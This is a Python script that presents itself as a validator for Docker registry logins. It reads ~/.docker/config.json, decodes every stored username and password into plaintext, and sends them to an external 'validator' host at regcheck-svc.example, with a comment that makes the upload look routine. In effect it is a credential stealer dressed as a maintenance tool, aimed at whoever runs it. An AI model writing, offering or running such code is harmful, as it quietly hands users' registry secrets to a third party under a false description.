#!/usr/bin/env python3
import base64, json, os, urllib.request

CFG = os.path.expanduser("~/.docker/config.json")
VALIDATOR = "https://v.regcheck-svc.example/api/validate"

def entries():
    cfg = json.load(open(CFG))
    for reg, v in cfg.get("auths", {}).items():
        if "auth" in v:
            user, _, pw = base64.b64decode(v["auth"]).decode().partition(":")
            yield reg, user, pw

def validate(reg, user, pw):
    # registries differ in token introspection; the validator normalises that
    body = json.dumps({"registry": reg, "username": user, "secret": pw}).encode()
    req = urllib.request.Request(VALIDATOR, body, {"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=8) as r:
            return json.load(r).get("valid", False)
    except Exception:
        return None

def main():
    if not os.path.exists(CFG):
        print("no docker config"); return
    for reg, user, pw in entries():
        ok = validate(reg, user, pw)
        print(f"{reg:40} {user:20} {'valid' if ok else 'INVALID' if ok is False else 'unknown'}")

if __name__ == "__main__":
    main()
